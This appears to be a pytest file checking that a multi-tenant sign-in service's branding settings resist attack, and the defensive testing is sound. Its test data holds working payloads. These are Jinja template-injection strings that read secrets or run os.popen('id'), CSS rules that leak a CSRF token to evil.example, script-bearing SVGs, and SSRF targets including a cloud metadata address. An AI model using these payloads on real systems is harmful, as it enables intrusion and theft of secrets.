"""Attacks through a brand: on templates, by stylesheets, by pictures, on other tenants, on the inner network."""

import dataclasses
import re
from typing import TYPE_CHECKING, Any

import pytest

from app.domain import branding, site_brand, tenants
from app.domain.tenants import TenantContext
from app.infra.fetch import Fetcher
from app.infra.tenancy import SystemReason
from app.kernel.errors import Problem
from app.web.services import Services
from tests.conftest import new_tenant
from tests.protocol.browserless import Person, new_person, new_public_client

if TYPE_CHECKING:
    from tests.conftest import Http

INJECTED = (
    "{{ 7*191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}<script>1</script>"
)


def decide(services: Services, tenant: TenantContext, *, host: str | None = None, **said: Any) -> None:
    with services.tenancy.system(SystemReason.COMMAND_LINE, write=True) as session:
        row = tenants.find(session, tenant.slug)
        assert row is not None
        row.host = host
        tenants.update_settings(row, branding.keep_pictures(session, row.id, {"branding": said}))
    services.versions.touch()


def test_template_injection(services: Services, tenant: TenantContext, http: "Http") -> None:
    """Whatever a tenant calls itself or writes is text: Jinja sees values, never a template of theirs."""
    decide(
        services,
        tenant,
        name=INJECTED[:80],
        texts={"title": {"en": INJECTED}, "intro": {"en": INJECTED}},
        links=[{"text": {"en": INJECTED}, "uri": "https://example.com"}],
    )
    new_public_client(services, tenant, client_name=INJECTED, **{"client_name#de": INJECTED})
    for page in (http.get("/sign-in"), Person(http).authorize(), Person(http).authorize(ui_locales="de")):
        assert page.status_code == 200
        assert "1337" not in page.text
        assert "<script>1" not in page.text
        assert "{{ 7*191 }}" in page.text


EVERYWHERE = {
    name: {"title": {"en": INJECTED}, "intro": {"en": INJECTED}}
    for name in ("registration", "recover", "signed_out")
} | {name: {"intro": {"en": INJECTED}} for name in ("factor", "consent", "error")}


def test_template_injection_on_every_page(services: Services, tenant: TenantContext, http: "Http") -> None:
    """The same of the words of each page: text in a heading or under it, and in no other tenant's pages."""
    decide(services, tenant, texts=EVERYWHERE)
    with services.tenancy.system(SystemReason.COMMAND_LINE, write=True) as session:
        row = tenants.find(session, tenant.slug)
        assert row is not None
        tenants.update_settings(row, {"registration": {"people": "open"}})
    services.versions.touch()
    new_person(services, tenant)
    new_public_client(services, tenant)
    person, other = Person(http), new_tenant(services)
    for page in (
        person.follow(http.get("/register")),
        person.follow(http.get("/forgot")),
        http.get("/no-such-page"),
        person.follow(http.get("/logout")),
        person.sign_in(person.authorize()),
    ):
        assert "{{ 7*191 }}" in page.text, page.request.path
        assert "1337" not in page.text
        assert "<script>1" not in page.text
    assert "7*191" not in http.get(other.path + "/no-such-page", raw=True).text


@pytest.mark.parametrize("member", ["header_html", "footer_html"])
@pytest.mark.parametrize(
    "text",
    [
        INJECTED,
        "{{ tenant.__class__.__mro__ }}",
        "{{ request.environ }}",
        "{{ csrf }}",
        "{{ config.SECRET_KEY }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    ],
)
def test_template_injection_by_own_markup(
    services: Services, tenant: TenantContext, member: str, text: str
) -> None:
    with pytest.raises(Problem, match="settings are not valid"):
        decide(services, tenant, host=f"{tenant.slug}.example", **{member: text})


@pytest.mark.parametrize(
    "css",
    [
        "input[name=csrf_token][value^=a] { background: url(https://evil.example/a) }",
        "@import url(https://evil.example/steal.css);",
        "@font-face { font-family: a; src: url(https://evil.example/?A); unicode-range: U+0041 }",
        ".x-a { background: url(//evil.example/pixel) }",
        ".x-a { list-style: image-set('https://evil.example' 1x) }",
    ],
)
def test_exfiltration_by_stylesheet(services: Services, tenant: TenantContext, css: str) -> None:
    with pytest.raises(Problem, match="css"):
        decide(services, tenant, host=f"{tenant.slug}.example", css=css)


def test_a_stylesheet_cannot_be_broken_out_of(
    services: Services, tenant: TenantContext, http: "Http"
) -> None:
    """No setting gets into the stylesheet but colours, numbers and what was written anew."""
    for said in (
        {"colours": {"brand": "#000; } input { display: none"}},
        {"font": "x; } @import 'https://evil.example';"},
        {"radius": "0} body{display:none"},
    ):
        with pytest.raises(Problem, match="settings are not valid"):
            decide(services, tenant, **said)
    assert http.get("/brand.css").text == ""


def test_cross_tenant_origin(services: Services, tenant: TenantContext, http: "Http") -> None:
    """A tenant without a host of its own shares an origin, so it has neither HTML nor CSS of its own there; and what
    it has is found at its own path alone."""
    other = new_tenant(services)
    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>'
    decide(services, tenant, logo=svg, colours={"brand": "#7a1fa2"}, name="Only Here")
    for said in ({"header_html": "<p>x</p>"}, {"footer_html": "<p>x</p>"}, {"css": ".x-a { color: #000 }"}):
        with pytest.raises(Problem, match="host of their own"):
            decide(services, tenant, **said)
    page = http.get(other.path + "/sign-in", raw=True).text
    assert "Only Here" not in page
    assert "brand.css" not in page
    assert http.get(other.path + "/brand/logo", raw=True).status_code == 404
    assert http.get(other.path + "/brand.css", raw=True).text == ""


def test_a_picture_is_never_a_page(services: Services, tenant: TenantContext, http: "Http") -> None:
    """Not by its name, not by its type, not opened by itself (an SVG is a document of our origin)."""
    for picture in (
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.domain)</script></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "<svg><metadata><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script></metadata></svg>",
        "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
        "data:image/svg+xml;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ):
        with pytest.raises(Problem):
            decide(services, tenant, logo=picture)
    decide(services, tenant, logo="<svg xmlns='http://www.w3.org/2000/svg'/>")
    policy = http.get("/brand/logo").headers["Content-Security-Policy"]
    assert re.search(r"(^|; )sandbox(;|$)", policy)
    assert "default-src 'none'" in policy


@pytest.mark.parametrize(
    "url", ["https://127.0.0.1/logo.png", "https://169.254.169.254/latest/meta-data", "https://[::1]/x.png"]
)
def test_a_logo_reaches_no_inner_network(
    services: Services, tenant: TenantContext, http: "Http", url: str
) -> None:
    """Contracts 19, by way of `logo_uri` and of a brand drawn from a page."""
    closed = dataclasses.replace(services, fetcher=Fetcher())
    new_public_client(services, tenant, logo_uri=url)
    from app import create_app
    from tests.conftest import Http as Client

    guarded = Client(create_app(services.settings, services=closed), tenant)
    assert guarded.get("/client-logo", query={"client_id": "app"}).status_code == 404
    with pytest.raises(Problem) as refusal:
        site_brand.draw(Fetcher(), url)
    assert refusal.value.code == "fetch.address"


def test_a_preview_changes_nothing(services: Services, tenant: TenantContext, http: "Http") -> None:
    """And cannot carry what an applied brand may not."""
    from app.web import brand_preview

    link = brand_preview.make_link(services, tenant, {"name": INJECTED[:80], "header_html": "<p>x-html</p>"})
    page = http.get(link.removeprefix(tenant.issuer))
    assert "1337" not in page.text
    assert "x-html" not in page.text, "no host of its own"
